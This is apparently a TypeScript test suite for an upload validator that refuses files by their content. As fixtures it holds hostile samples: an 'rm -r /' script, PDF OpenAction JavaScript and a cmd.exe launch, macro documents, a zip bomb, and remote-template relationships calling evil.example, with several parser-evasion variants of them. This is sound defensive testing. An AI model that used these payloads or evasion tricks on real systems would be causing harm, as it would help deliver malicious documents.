import { describe, expect, it } from 'vitest';
import { contentOf } from '../../../functions/content/content-of.ts';
import { acceptFile, doubtOutside } from '../../../shared/attachment/accept-file.ts';
import { AttachmentId } from '../../../shared/ids.ts';
import { bomb, compound, docx, eicar, pdf, png, types, zip } from '../../support/attached-files.ts';

const id = AttachmentId.parse('00000000-0000-4000-8000-000000000001');

/** What becomes of a file by its name and its bytes: its type, or why it is refused. */
async function outcome(name: string, file: Buffer): Promise<string> {
  const outside = doubtOutside({ name, size: file.length });
  if (outside) return outside;
  const accepted = acceptFile({ id, name }, await contentOf(file), []);
  return accepted.ok ? `taken as ${accepted.value}` : accepted.refusal;
}

const text = (words: string) => Buffer.from(words);
const mail = text(
  'From: a@b.example\r\nSubject: Wren\r\nDate: Mon, 23 Nov 2026 10:00:00 +0000\r\n\r\n<html>Hello</html>',
);
const jpg = Buffer.from('/9j/4AAQSkZJRgABAQEASABIAAD/wAARCAABAAEDASIAAhEBAxEB/9k=', 'base64');

describe('a file is what its bytes are, whatever it is called', () => {
  it.each([
    ['report.pdf', pdf(), 'taken as pdf'],
    ['photo.png', png(), 'taken as png'],
    ['photo.JPEG', jpg, 'taken as jpg'],
    ['notes.txt', text('BM: the child said “no”.\n'), 'taken as txt'],
    ['notes.txt', Buffer.from('\uFEFFwide notes', 'utf16le'), 'taken as txt'],
    ['mail.eml', mail, 'taken as eml'],
    ['mail.msg', compound('__properties_version1.0'), 'taken as msg'],
    ['eicar.txt', text(eicar), 'taken as txt'],
    ['photo.jpg', pdf(), 'name-and-content-differ'],
    ['report.pdf', png(), 'name-and-content-differ'],
    ['report.docx', text('only words'), 'name-and-content-differ'],
    ['page.html', text('<html>'), 'type-not-taken'],
    ['picture.svg', text('<svg onload="x"/>'), 'type-not-taken'],
    ['picture.txt', text('<svg onload="x"/>'), 'type-not-taken'],
    ['script.txt', text('#!/bin/sh\nrm -r /'), 'type-not-taken'],
    ['old.docx', compound('WordDocument'), 'type-not-taken'],
    ['tool.exe', text('MZ'), 'type-not-taken'],
    ['report.pdf', Buffer.alloc(0), 'empty'],
    ['report.pdf', Buffer.alloc(25 * 1024 * 1024), 'too-large'],
    ['../report.pdf', pdf(), 'path-in-name'],
  ])('%s', async (name, file, expected) => {
    expect(await outcome(name, file)).toBe(expected);
  });
});

describe('what a document carries', () => {
  it('is taken when it is words, and refused when it can act, hides something or is locked', async () => {
    const external = (what: string) =>
      `<Relationships><Relationship Type="http://x/relationships/${what}" Target="http://evil.example/a" TargetMode="External"/></Relationships>`;
    const cases: [string, Buffer, string][] = [
      ['a.docx', await docx(), 'taken as docx'],
      ['a.docx', await docx({ 'word/_rels/document.xml.rels': external('hyperlink') }), 'taken as docx'],
      ['a.docx', await docx({ 'word/_rels/settings.xml.rels': external('attachedTemplate') }), 'active-content'],
      ['a.docx', await docx({ 'word/vbaProject.bin': 'x' }), 'macros'],
      [
        'a.docx',
        await zip({ '[Content_Types].xml': types('application/vnd.ms-word.document.macroEnabled.main+xml') }),
        'macros',
      ],
      ['a.docx', await docx({ 'word/embeddings/one.zip': await zip({ a: 'b' }) }), 'archive-inside'],
      ['a.docx', await zip({ 'a.txt': 'no document' }), 'type-not-taken'],
      ['a.docx', Buffer.from('PK\u0003\u0004 broken'), 'damaged'],
      ['a.docx', compound('EncryptedPackage'), 'password'],
      ['a.docx', await bomb(), 'unpacks-too-large'],
      ['a.pdf', pdf('/Encrypt 5 0 R'), 'password'],
      ['a.pdf', pdf('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'), 'active-content'],
      ['a.pdf', pdf('/OpenAction<</S/J#61vaScript>>'), 'active-content'],
      ['a.pdf', pdf('/OpenAction<</S/Launch/F(cmd.exe)>>'), 'active-content'],
      ['a.pdf', text('%PDF-1.4\nhalf of it'), 'damaged'],
      ['a.png', png(50_000, 50_000), 'too-many-pixels'],
      ['a.png', Buffer.concat([png(), await zip({ 'a.html': '<script>' })]), 'two-in-one'],
      ['a.pdf', Buffer.concat([pdf(), await zip({ 'a.jar': 'x' })]), 'two-in-one'],
    ];
    for (const [name, file, expected] of cases) expect([name, await outcome(name, file)]).toEqual([name, expected]);
  });
});

describe('what a document fetches as it is opened', () => {
  const fetching = (what: string, target = 'https://evil.example/t.dotm') =>
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${what}" Target="${target}" TargetMode="External"/></Relationships>`;
  const template = fetching('attachedTemplate');
  const bare = template.replace(/^<\?.*\?>\r\n/, '');
  const wide = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le');
  const inWord = async (rels: string | Buffer, part = 'word/_rels/settings.xml.rels') =>
    outcome('a.docx', await docx({ [part]: rels }));

  it.each<[string, string | Buffer]>([
    ['as it is mostly written', template],
    ['in single quotes', bare.replaceAll('"', "'")],
    ['with spaces about the equals sign', template.replace('TargetMode=', 'TargetMode = ')],
    ['with a prefix', bare.replaceAll(/(<\/?)(R)/g, '$1r:$2').replace('xmlns=', 'xmlns:r=')],
    ['in UTF-16', wide(bare)],
    ['in another encoding', template.replace('UTF-8', 'UTF-7')],
    ['with a character by number', template.replace('External', '&#69;xternal')],
    ['with an entity of its own', `<!DOCTYPE a [<!ENTITY e "External">]>${bare.replace('External', '&e;')}`],
    ['behind a sign that closes nothing', bare.replace('Id="r1"', 'Id="r1>"')],
    ['an object', fetching('oleObject')],
    ['a picture', fetching('image')],
    ['behind a comment', bare.replace('<Relationship ', '<!-- > --><Relationship ')],
  ])('is refused: %s', async (_, rels) => {
    expect(await inWord(rels)).toBe('active-content');
  });

  it('is refused by whatever letters the part is called, and behind more than anybody reads', async () => {
    expect(await inWord(template, 'word/_rels/settings.xml.RELS')).toBe('active-content');
    const padded = bare.replace('<Relationship ', `${' '.repeat(1_100_000)}<Relationship `);
    expect(await inWord(padded)).toBe('unpacks-too-large');
  });

  it('is not what a link is, nor a part of the document itself', async () => {
    expect(await inWord(fetching('hyperlink', 'https://a.example/?b=1&amp;c=2'))).toBe('taken as docx');
    const inside = fetching('styles', 'styles.xml').replace(' TargetMode="External"', '');
    expect(await inWord(inside)).toBe('taken as docx');
    expect(await inWord(inside.replace('<?xml', '\uFEFF<?xml'))).toBe('taken as docx');
    expect(await inWord('<Relationships xmlns="http://a.example"/>')).toBe('taken as docx');
  });
});
